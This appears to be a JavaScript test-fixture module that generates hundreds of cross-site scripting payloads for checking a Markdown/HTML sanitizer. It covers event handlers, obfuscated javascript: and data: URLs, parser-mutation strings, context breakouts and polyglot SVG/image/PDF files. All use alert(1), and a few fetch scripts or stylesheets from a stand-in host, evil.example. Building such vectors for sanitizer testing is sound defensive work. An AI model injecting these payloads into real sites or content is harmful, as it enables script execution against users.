// Vectors of this project's own: what the public lists have little of. Markdown, mutations by parsing
// twice, what ends the place a text stands in (JSON-LD, CDATA, attributes), and every handler on every
// kind of element that is let through.

/** Handlers that fire by themselves or by what the judge does with the mouse and the keyboard. */
const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onpointerdown", "onbeforetoggle", "oncontentvisibilityautostatechange"];
const ELEMENTS = ["a href=#", "img src=x", "details open", "input type=checkbox autofocus", "td", "time", "h2", "svg", "section", "ol start=1", "li value=1", "bdo dir=rtl", "abbr title=x"];
const handlers = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=alert(1) tabindex=1>x</${element.split(" ")[0]}>`));

/** Destinations of links, as Markdown and browsers read them differently. */
const DESTINATIONS = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
  "&#1;javascript:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "javascript\\:alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)",
  "javascript://example.org/%0aalert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "blob:null/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
  "//evil.example/x.js", "\\\\evil.example", "https:javascript:alert(1)", "mailto:x?body=<script>alert(1)</script>", "tel:\"onclick=alert(1)", "#\"onclick=\"alert(1)", "x\" onerror=\"alert(1)", "x' onerror='alert(1)",
];
const links = DESTINATIONS.flatMap((to) => [
  `[x](${to})`, `[x](<${to}>)`, `![x](${to})`, `<${to}>`, `[x][r]\n\n[r]: <${to}>`, `[x](/a "${to}\\" onmouseover=\\"alert(1)")`,
]);

const places = [
  "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
  "Text[^1].\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
  "## Head <img src=x onerror=alert(1)>", "## Head {#x onclick=\"alert(1)\" style=\"background:url(javascript:alert(1))\"}", "## Head {#\"onclick=alert(1)}",
  "Text\n{.x onclick=\"alert(1)\" id=\"cookie\"}", "![a](x){onerror=alert(1)}", "- [ ] <input onfocus=alert(1) autofocus>", "> <svg onload=alert(1)>",
  "```html\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`", "```</script><script>alert(1)\n```",
  "<div>\n\n*</div><script>alert(1)</script>*", "*<b>*<img src=x onerror=alert(1)></b>", "<a href=\"x\n\nonclick=alert(1)\">", "<img src=\"x\" alt=\"`\">`<img src=x onerror=alert(1)>`\">",
  "<details open ontoggle=alert(1)>\n<summary>x</summary>\n\n**y**\n</details>", "a<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml?><script>alert(1)</script>",
  ":<script>alert(1)</script>:", "~~<s onclick=alert(1)>~~", "<https://x/\"onclick=alert(1)>", "https://x.example/?\"><script>alert(1)</script>", "www.x.example/\"onmouseover=alert(1)",
];

/** What one parser takes for text and the next for an element. */
const mutations = [
  "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title=\"</xmp><svg onload=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
  "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<template><s><template><s><img src=x onerror=alert(1)>x</s></template>", "<select><template><img src=x onerror=alert(1)></template></select>",
  "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\">",
  "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">", "<object data=\"data:text/html,<script>alert(1)</script>\">", "<embed src=\"javascript:alert(1)\">", "<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/safari.html>x</a>",
  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=\"data:text/css,*{background:url(x)}\">", "<style>@import 'http://evil.example/x.css';</style>", "<form action=javascript:alert(1)><button>x</button></form>",
  "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>", "<plaintext><img src=x onerror=alert(1)>", "<table><td background=javascript:alert(1)><caption><script>alert(1)</script>", "<p><table><p><img src=x onerror=alert(1)>",
  "<img name=getElementById><img name=cookie><a id=location href=javascript:alert(1)>x</a>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>", "<isindex action=javascript:alert(1) type=submit>", "<x contenteditable onfocus=alert(1) tabindex=1 autofocus>x", "<svg><script>alert&lpar;1)</script>", "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>", "<p style=\"animation:x\" onanimationstart=alert(1)>x", "<a href=# style=\"behavior:url(x)\">x</a>",
];

/** What ends the place a text stands in: JSON-LD, CDATA, attributes, comments, templates. */
const ends = [
  "</script><script>alert(1)</script>", "</SCRIPT ><svg onload=alert(1)>", "<!--<script>", "]]><script>alert(1)</script>", "]]>]]&gt;<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='",
  "--><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</code></pre><script>alert(1)</script>", "\u2028alert(1)//", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
];

export default [...new Set([...links, ...places, ...mutations, ...ends, ...handlers])];

/** Drawings and what poses as one. */
const svg = (inner, more = "") => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${more}>${inner}</svg>`;
export const FILES = {
  "load.svg": svg("", ' onload="alert(1)"'),
  "script.svg": svg("<script>alert(1)</script>"),
  "module.svg": svg('<script type="module">alert(1)</script>'),
  "remote.svg": svg('<script href="http://evil.example/x.js"/><image href="http://evil.example/x.png"/>'),
  "animate.svg": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  "foreign.svg": svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"/></foreignObject>'),
  "link.svg": svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
  "sheet.svg": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet%20version='1.0'%20xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/%3E"?>${svg("<script>alert(1)</script>")}`,
  "page.png": "<!doctype html><script>alert(1)</script>",
  "both.gif": "GIF89a/*<script>alert(1)</script>*/=1;alert(1)//",
  "page.jpg": "<html><body onload=alert(1)>",
  "page.ico": "<script>alert(1)</script>",
  "page.webp": "RIFF<script>alert(1)</script>WEBP",
  "page.pdf": "%PDF-1.4 <script>alert(1)</script>",
};
